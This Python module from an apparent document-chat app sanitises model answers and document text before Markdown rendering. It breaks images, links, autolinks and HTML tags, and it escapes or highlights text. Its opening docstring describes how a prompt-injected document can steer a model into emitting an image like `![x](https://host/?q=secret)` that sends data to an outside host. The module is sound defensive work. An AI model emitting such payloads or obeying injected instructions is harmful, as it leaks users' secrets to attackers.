"""Make untrusted text (model answers, document text, file names) safe to render as Markdown.

The UI renders Markdown, and Markdown can make a browser fetch things: an image
`![x](https://host/?q=secret)` loads the moment it is shown, and links, autolinks
and HTML tags point elsewhere. Model output can be steered by a prompt-injected
document, so nothing it writes may become an image, a link or a tag:

- `safe_markdown(text)` keeps a model's formatting (bold, lists, code) but turns
  images into plain text (`[image: alt]`) and breaks every link-making construct.
- `SafeMarkdownStream` does the same to text that arrives in pieces (a streamed
  answer). Every rule looks backwards only, so text already shown never changes
  meaning when more arrives; an unclosed `[` is held back until its `]` comes,
  because Streamlit "completes" unterminated syntax while streaming (an open `[x`
  would be shown as a link).
- `escape_markdown(text)` shows text literally (document chunks, file names,
  questions): every ASCII punctuation character is backslash-escaped, whitespace
  folded. `highlight(text, span)` does that with one span in bold.
- `link_citations(markdown, anchor)` turns the citations of a safe answer ([1],
  [2, 3]) into links to the sources under it (in-page anchors DocChat writes).
- `marked_answer(text, claims, anchor)` does both, and underlines each sentence the
  claim check did not back, with its reason.
- `text_view_html(view)` is a source's surrounding text as inert HTML (every
  character escaped), the chunk marked, for `st.html`.

How constructs are broken: a zero-width space (U+200B) after every `]` (no `](`,
`]:` or `][`: no inline or reference link or image, no footnote), after every `<`
(no HTML tag, no `<https://...>` autolink), between `!` and `[`, inside `://` and
`www.` (no bare-URL autolink). It is invisible, and harmless inside code blocks,
where a backslash escape would show.

Left out: clickable links in answers (an answer has no business linking out; the
system prompt forbids them too), e-mail autolinks (they open a mail client and load
nothing), and LaTeX (KaTeX runs untrusted, so `\\href` and images are off).
"""

from __future__ import annotations

import html
import re
import string
from collections.abc import Callable, Sequence
from typing import TYPE_CHECKING

from rag.core.models import Claim
from rag.core.text import CITATION

if TYPE_CHECKING:
    from rag.views.text_view import TextView

ZWSP = "\u200b"
_MAX_HELD = 200  # characters an unclosed "[" may hold back a stream before giving up

_IMAGE_INLINE = re.compile(r"!\[([^\]\n]*)\]\([^)\n]*\)?")
_IMAGE_REF = re.compile(r"!\[([^\]\n]*)\]\[[^\]\n]*\]")
_ESCAPE = {c: "\\" + c for c in string.punctuation}
_AUTOLINK_BREAK = re.compile(r"\\:(?=\\/)|(?<=[wW]{3})(?=\\\.)|\\@")


class SafeMarkdownStream:
    """Sanitize Markdown arriving in pieces: `feed()` each piece, then `flush()`."""

    def __init__(self) -> None:
        self._prev = ""  # the last few raw characters emitted (for look-behind rules)
        self._held = ""  # raw text from an unclosed "[" on, not emitted yet

    def feed(self, text: str) -> str:
        out: list[str] = []
        for ch in text:
            if self._held:
                self._held += ch
                if ch == "]" or ch == "\n" or len(self._held) > _MAX_HELD:
                    held, self._held = self._held, ""
                    out.append(self._emit(held))
                continue
            if ch == "[":
                self._held = ch
                continue
            out.append(self._emit(ch))
        return "".join(out)

    def flush(self) -> str:
        held, self._held = self._held, ""
        return self._emit(held)

    def _emit(self, text: str) -> str:
        out: list[str] = []
        for ch in text:
            prev = self._prev
            breaks = (
                (ch == "[" and prev.endswith("!"))  # image
                or (ch == "/" and prev.endswith(":"))  # scheme://
                or (ch == "." and prev[-3:].lower() == "www")  # www.
            )
            if breaks:
                out.append(ZWSP)
            out.append(ch)
            if ch in "]<":
                out.append(ZWSP)
            self._prev = (prev + ch)[-3:]
        return "".join(out)


def replace_images(text: str) -> str:
    """`![alt](url)` and `![alt][ref]` become the plain text `[image: alt]`."""

    def repl(m: re.Match[str]) -> str:
        alt = " ".join(m.group(1).split())
        return f"[image: {alt}]" if alt else "[image]"

    return _IMAGE_REF.sub(repl, _IMAGE_INLINE.sub(repl, text))


def safe_markdown(text: str) -> str:
    """A model's Markdown with images as text and no link, autolink or HTML tag left."""
    stream = SafeMarkdownStream()
    return stream.feed(replace_images(text)) + stream.flush()


def escape_markdown(text: str, *, fold: bool = True) -> str:
    """`text` shown literally by a Markdown renderer (whitespace folded unless `fold=False`)."""
    if fold:
        text = " ".join(text.split())
    escaped = "".join(_ESCAPE.get(c, c) for c in text)
    # Bare URLs and e-mail addresses are autolinked even when escaped: break them.
    return _AUTOLINK_BREAK.sub(lambda m: m.group(0) + ZWSP, escaped)


def highlight(text: str, span: tuple[int, int] | None) -> str:
    """`text` escaped, with `text[start:end]` in bold."""
    if span is None:
        return escape_markdown(text)
    start, end = span
    before, middle, after = text[:start], text[start:end].strip(), text[end:]
    if not middle:
        return escape_markdown(text)
    # Spaces around the markers keep them "flanking" (CommonMark's rule for bold)
    # whatever punctuation the escaped sentence starts or ends with.
    parts = [escape_markdown(before), f"**{escape_markdown(middle)}**", escape_markdown(after)]
    return " ".join(p for p in parts if p)


# A citation (`text.CITATION`) as `safe_markdown` leaves it: the zero-width space after.
_CITATION = re.compile(CITATION.pattern + ZWSP)


def link_citations(markdown: str, anchor: Callable[[int], str | None]) -> str:
    """`markdown` (from `safe_markdown`) with each cited number linked to `#anchor(n)`;
    numbers `anchor` returns None for (no such source) stay plain. The anchors are
    DocChat's own ids, so no link leaves the page."""

    def one(n: str) -> str:
        target = anchor(int(n))
        return f"[{n}](#{target})" if target else n

    def group(m: re.Match[str]) -> str:
        numbers = re.sub(r"\d+", lambda d: one(d.group(0)), m.group(1))
        return f"\\[{numbers}\\]"

    return _CITATION.sub(group, markdown)


# Where a flagged sentence starts and ends while the answer is sanitized (private-use
# characters: a model's own are replaced first, so only DocChat's marks become tags).
_OPEN, _CLOSE = "\ue000", "\ue001"
_PRIVATE = re.compile("[\ue000\ue001]")
_FLAG = "text-decoration: underline wavy #c2410c; text-underline-offset: 3px"
_REASON = "color: #c2410c; font-size: 0.85em"
FLAGGED = ("not_found", "uncited")  # the verdicts marked in the answer


def marked_answer(text: str, claims: Sequence[Claim], anchor: Callable[[int], str | None]) -> str:
    """A model's answer as `safe_markdown` and `link_citations` make it, with each
    sentence its claim check did not back underlined and followed by the reason
    ("12.4 % not in [2]"). Render it with HTML allowed: the only tags in it are
    DocChat's (every `<` of the model's is already broken). A sentence that spans
    lines or holds code is not underlined (a tag across Markdown blocks would break
    them); its reason still follows it."""
    text = _PRIVATE.sub("\ufffd", text)  # the same length: the claims' offsets hold
    flagged = sorted((c for c in claims if c.verdict in FLAGGED and 0 <= c.start < c.end
                      <= len(text)), key=lambda c: c.start)  # fmt: skip
    parts, reasons, pos = [], [], 0
    for c in flagged:
        if c.start < pos:
            continue  # overlapping spans: one mark per place
        inline = "\n" not in text[c.start : c.end] and "`" not in text[c.start : c.end]
        parts += [text[pos : c.start], _OPEN if inline else "", text[c.start : c.end], _CLOSE]
        reasons.append((inline, c.reason or c.verdict.replace("_", " ")))
        pos = c.end
    parts.append(text[pos:])
    out = link_citations(safe_markdown("".join(parts)), anchor)
    out = out.replace(_OPEN, f'<span style="{_FLAG}">')
    for inline, reason in reasons:
        note = escape_markdown(reason)  # Markdown inside the tag: escaped as any text is
        close = "</span>" if inline else ""
        out = out.replace(_CLOSE, f'{close} <span style="{_REASON}">⚠ {note}</span>', 1)
    return out


_MARK = "background: rgba(255, 214, 0, 0.35); color: inherit"
_STRONG = "background: rgba(255, 120, 0, 0.45); color: inherit"


def text_view_html(view: TextView) -> str:
    """The text around a chunk as HTML with nothing of the document's own markup
    (every character escaped), the chunk marked and its supporting sentence stronger;
    code with line numbers."""
    chunk = html.escape(view.chunk)
    if view.sentence is not None:
        a, b = view.sentence
        parts = (view.chunk[:a], view.chunk[a:b], view.chunk[b:])
        chunk = (f"{html.escape(parts[0])}<mark style=\"{_STRONG}\">{html.escape(parts[1])}"
                 f"</mark>{html.escape(parts[2])}")  # fmt: skip
    marked = f"<mark style=\"{_MARK}\">{chunk}</mark>"
    body = f"{html.escape(view.before)}{marked}{html.escape(view.after)}"
    if view.first_line is None:
        style = "white-space: pre-wrap; font-family: sans-serif; line-height: 1.5"
        return f"<div style=\"{style}\">{body}</div>"
    # Line numbers: one per line of the whole stretch (marks may span lines).
    lines = body.split("\n")
    width = len(str(view.first_line + len(lines)))
    numbered = "\n".join(
        f"<span style=\"opacity: 0.5\">{view.first_line + k:>{width}}</span>  {line}"
        for k, line in enumerate(lines)
    )
    return f"<pre style=\"white-space: pre-wrap\">{numbered}</pre>"
